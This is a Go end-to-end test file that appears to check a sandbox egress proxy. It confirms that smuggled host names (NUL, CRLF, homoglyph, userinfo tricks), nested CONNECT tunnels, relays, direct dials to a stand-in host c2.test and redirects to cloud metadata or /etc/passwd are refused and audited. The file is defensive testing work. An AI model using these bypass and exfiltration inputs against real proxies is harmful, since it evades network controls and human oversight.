//go:build linux

package e2e_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/claude-bottle/claude-bottle/internal/audit"
)

func TestA11NameTricks(t *testing.T) {
	t.Parallel()
	b := attacker(t, "names")
	benign(t, b)
	for _, same := range []string{"OK.TEST", "ok.test.", "Ok.tEsT"} { // one name, other spellings
		b.works(t, "-via", "proxy", "http://"+same+"/twin/a11")
		b.works(t, "-via", "socks", "-target", same+":80", "http://"+same+"/twin/a11")
	}
	for _, host := range []string{"okxtest", "evil-ok.test", "ok.test.c2.test", "wild.test", "xwild.test", "a.wild.test.c2.test", "xn--k-3xa.test", "ok.testt", "k.test"} {
		deniedByName(t, b, host, 80, host, "no rule of this bottle names the host "+host)
	}
	// A Greek omicron. Clients write punycode of their own accord, so the bytes are sent raw.
	got := evil[talk](t, b, "tcp", "127.0.0.1:3128", `CONNECT οk.test:443 HTTP/1.1\r\nHost: ok.test\r\n\r\n`)
	if !strings.HasPrefix(got.Data, "HTTP/1.1 403 ") || !strings.Contains(got.Data, "write it in punycode") {
		t.Errorf("a name outside ASCII: %+v", got)
	}
	b.audited(t, "a name outside ASCII", "write it in punycode", byHost("οk.test", ""))
	for _, host := range []string{"ok..test", ".ok.test", "-ok.test", "ok_test"} {
		deniedByName(t, b, host, 80, "ok", "host")
	}
}

func TestA12ControlBytes(t *testing.T) {
	t.Parallel()
	b := attacker(t, "bytes")
	benign(t, b)
	socks := func(host string) string {
		return fmt.Sprintf(`\x05\x01\x00\x05\x01\x00\x03\x%02x`, len(host)) + strings.Trim(fmt.Sprintf("%+q", host), `"`) + `\x01\xbb`
	}
	// The twin of the raw bytes themselves: the same request for a clean name is let in.
	if got := evil[talk](t, b, "tcp", "-bytes", "12", "127.0.0.1:3128", socks("ok.test")); got.Data != "\x05\x00\x05\x00\x00\x01\x00\x00\x00\x00\x00\x00" {
		t.Errorf("a clean SOCKS5 request: %+v", got)
	}
	for _, host := range []string{"c2.test\x00.ok.test", "ok.test\x00", "ok.test\r\nX: y", "ok.test c2.test", "c2.test#.ok.test", "user@ok.test", "ok.test/", "c2.test\\.ok.test", "%6fk.test"} {
		got := evil[talk](t, b, "tcp", "127.0.0.1:3128", socks(host))
		if len(got.Data) < 4 || got.Data[3] != 2 {
			t.Errorf("SOCKS5 for %q: %+v", host, got)
		}
	}
	b.audited(t, "a name with NUL by SOCKS5", "may only hold letters, digits", func(e audit.Event) bool { return e.Via == audit.ViaSOCKS && strings.Contains(e.Host, "c2.test") })
	for _, target := range []string{"c2.test%00.ok.test:443", "user@ok.test:443", "user:pw@ok.test:443", "ok.test:443@c2.test:443", "ok.test:443:443", "ok.test", ":443", "ok.test:0", "ok.test:99999", "ok.test:+443", "http://ok.test:443"} {
		got := evil[talk](t, b, "tcp", "127.0.0.1:3128", `CONNECT `+target+` HTTP/1.1\r\nHost: ok.test:443\r\n\r\n`)
		if !strings.HasPrefix(got.Data, "HTTP/1.1 4") {
			t.Errorf("CONNECT %s: %+v", target, got)
		}
	}
	for _, raw := range []string{
		`CONNECT c2.test:443\r\nX: ok.test:443 HTTP/1.1\r\n\r\n`, `CONNECT c2.test :443 HTTP/1.1\r\nHost: ok.test\r\n\r\n`, `CONNECT ok.test\x00.c2.test:443 HTTP/1.1\r\nHost: ok.test\r\n\r\n`,
		`GET http://c2.test\x00.ok.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n`, `GET http://ok.test\r@c2.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n`, `GET http://ok.test@c2.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n`,
		`GET http://c2.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n`, `GET http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\nHost: c2.test\r\n\r\n`,
	} {
		got := evil[talk](t, b, "tcp", "127.0.0.1:3128", raw)
		if !strings.HasPrefix(got.Data, "HTTP/1.1 4") {
			t.Errorf("%s: %+v", raw, got)
		}
	}
}

func TestA13Ports(t *testing.T) {
	t.Parallel()
	b := attacker(t, "ports")
	benign(t, b)
	for _, port := range []int{22, 8443, 9443, 8080} {
		deniedByName(t, b, "ok.test", port, "ok.test", "the rules for ok.test allow port")
		if port == 22 {
			continue // B06's
		}
		addr := fmt.Sprintf("http://ok.test:%d/", port)
		refused(t, b.http(t, "-via", "direct", addr), "the rules for ok.test allow")
	}
	// Cleartext on a rule that is for TLS alone.
	refused(t, b.http(t, "-via", "proxy", "http://deep.wild.test/"), "allow TLS only")
	b.audited(t, "cleartext to a TLS rule", "allow TLS only", byHost("deep.wild.test", ""))
}

func TestA14Relay(t *testing.T) {
	t.Parallel()
	b := attacker(t, "relay")
	benign(t, b)
	go func() { _, _ = b.order(background, nil, "/workspace/evil", "relay", "127.0.0.1:4444", "1h") }() // told by what follows
	within(t, patience, "the relay carries what is allowed", func() bool {
		return b.http(t, "-via", "connect", "-proxy", "127.0.0.1:4444", "https://ok.test/twin/a14").Status == 200
	})
	refused(t, b.http(t, "-via", "connect", "-proxy", "127.0.0.1:4444", "-k", "https://c2.test/"+planted), "no rule of this bottle names the host c2.test")
	b.audited(t, "CONNECT by a relay", "no rule of this bottle names the host c2.test", func(e audit.Event) bool { return e.Via == audit.ViaConnect })
	// A CONNECT inside an allowed tunnel, in cleartext and to the proxy's own request parser.
	got := evil[talk](t, b, "tcp", "127.0.0.1:3128", `CONNECT ok.test:80 HTTP/1.1\r\nHost: ok.test:80\r\n\r\n`, `CONNECT c2.test:443 HTTP/1.1\r\nHost: c2.test:443\r\n\r\n`)
	if !strings.HasPrefix(got.Data, "HTTP/1.1 200") || !strings.Contains(got.Data, "tunnels don't nest") {
		t.Errorf("CONNECT in a tunnel: %+v", got)
	}
	b.audited(t, "a nested CONNECT", "tunnels don't nest", byHost("ok.test", ""))
}

func TestA15NoProxy(t *testing.T) {
	t.Parallel()
	b := attacker(t, "noproxy")
	benign(t, b)
	for _, port := range []int{25, 5432, 2375, 6443, 12345} {
		addr := fmt.Sprintf("%s:%d", c2Addr, port)
		got := evil[talk](t, b, "tcp", addr, `\x00\x01`+planted)
		if got.Data != "" || got.MS >= sniffing || narrow() && !strings.Contains(got.Error, unreachable) {
			t.Errorf("tcp %s: %+v", addr, got)
		}
		if narrow() {
			continue
		}
		b.audited(t, addr, "was dialled as a bare address", func(e audit.Event) bool { return e.Addr == c2Addr.String() && e.Port == uint16(port) })
	}
	for _, addr := range []string{c2Addr.String() + ":443", c2Addr.String() + ":4433", "[" + c2Addr6.String() + "]:443", "8.8.8.8:123", "127.0.0.1:4433"} {
		got := evil[talk](t, b, "udp", addr, planted)
		if got.Data != "" || !strings.Contains(got.Error, "refused") && !(narrow() && strings.Contains(got.Error, unreachable)) {
			t.Errorf("udp %s does not fail fast: %+v", addr, got)
		}
	}
	// The names a program looks up by itself are refused as names.
	if r := evil[resolution](t, b, "lookup", "c2.test"); len(r.Addresses) > 0 || !strings.Contains(r.Error, "no such host") {
		t.Errorf("look-up of an unlisted name: %+v", r)
	}
	if a := b.http(t, "-via", "direct", "http://c2.test/"); !strings.Contains(a.Error, "no such host") {
		t.Errorf("an unlisted name without a proxy: %+v", a)
	}
	b.audited(t, "the look-up", "no rule of this bottle names the host c2.test", func(e audit.Event) bool { return e.Kind == audit.KindDNS && e.Host == "c2.test" })
}

func TestA16Redirects(t *testing.T) {
	t.Parallel()
	b := attacker(t, "redirects")
	b.works(t, "-L", "-via", "proxy", "http://ok.test/twin/a16?to=http://ok.test/twin/second")
	b.works(t, "-L", "-via", "connect", "https://ok.test/twin/a16?to=https://deep.wild.test/second")
	for to, why := range map[string]string{
		"http://c2.test/" + planted:      "no rule of this bottle names the host c2.test",
		"http://169.254.169.254/latest/": "no rule of this bottle names the host 169.254.169.254",
		"http://meta.test/latest/":       "a cloud metadata address",
		"http://ok.test/secret":          "matches none of them",
	} {
		refused(t, b.http(t, "-L", "-via", "proxy", "http://ok.test/twin/a16?to="+to), why)
	}
	b.audited(t, "a redirect", "no rule of this bottle names the host c2.test", byHost("c2.test", ""))
	if a := b.http(t, "-L", "-via", "proxy", "http://ok.test/twin/a16?to=file:///etc/passwd"); a.Error == "" {
		t.Errorf("a redirect to a file: %+v", a)
	}
}

// The five ways a request can come decide alike: same verdict, same rule, same words.
func TestA20Parity(t *testing.T) {
	t.Parallel()
	b := attacker(t, "parity")
	benign(t, b)
	type judged struct{ verdict, rule, why, host string }
	ask := func(path string, args ...string) judged {
		t.Helper()
		refused(t, b.http(t, args...))
		e := b.audited(t, path, "", func(e audit.Event) bool { return e.Path == path })
		return judged{e.Verdict, e.Rule, e.Why, e.Host}
	}
	c2 := c2Addr.String()
	// A path no rule allows, on a host that has rules. The words name method and path, so the path
	// must be one length of the same letters on every way.
	ways := [][]string{
		{"-via", "proxy", "http://ok.test/"}, {"-via", "connect", "https://ok.test/"}, {"-via", "socks", "https://ok.test/"},
		{"-via", "direct", "https://ok.test/"}, {"-via", "connect", "-h2", "https://ok.test/"}, {"-via", "direct", "http://ok.test/"},
	}
	var first judged
	for i, w := range ways {
		path := fmt.Sprintf("/a20-%d", i)
		w[len(w)-1] += path[1:]
		got := ask(path, w...)
		got.why = strings.ReplaceAll(got.why, path, "PATH")
		if i == 0 {
			first = got
		}
		if got != first || got.rule == "" {
			t.Errorf("by %v: %+v, by the proxy: %+v", w, got, first)
		}
	}
	// A host no rule names. CONNECT and SOCKS never get to a request, so their line has no path.
	first = ask("/a20-host-0", "-via", "proxy", "http://other.test/a20-host-0")
	if !narrow() { // else there is no way to dial what has no name
		if got := ask("/a20-host-1", "-via", "direct", "-dial", c2+":80", "http://other.test/a20-host-1"); got != first {
			t.Errorf("transparent: %+v, proxy: %+v", got, first)
		}
		if got := ask("/a20-host-2", "-via", "direct", "-h2", "-k", "-dial", c2+":443", "https://other.test/a20-host-2"); got != first {
			t.Errorf("transparent h2: %+v, proxy: %+v", got, first)
		}
	}
	for _, via := range []audit.Via{audit.ViaConnect, audit.ViaSOCKS} {
		way := map[audit.Via]string{audit.ViaConnect: "connect", audit.ViaSOCKS: "socks"}[via]
		b.http(t, "-via", way, "-k", "https://other.test/")
		e := b.audited(t, way, first.why, func(e audit.Event) bool { return e.Via == via && e.Host == "other.test" })
		if got := (judged{e.Verdict, e.Rule, e.Why, e.Host}); got != first {
			t.Errorf("%s: %+v, proxy: %+v", way, got, first)
		}
	}
}
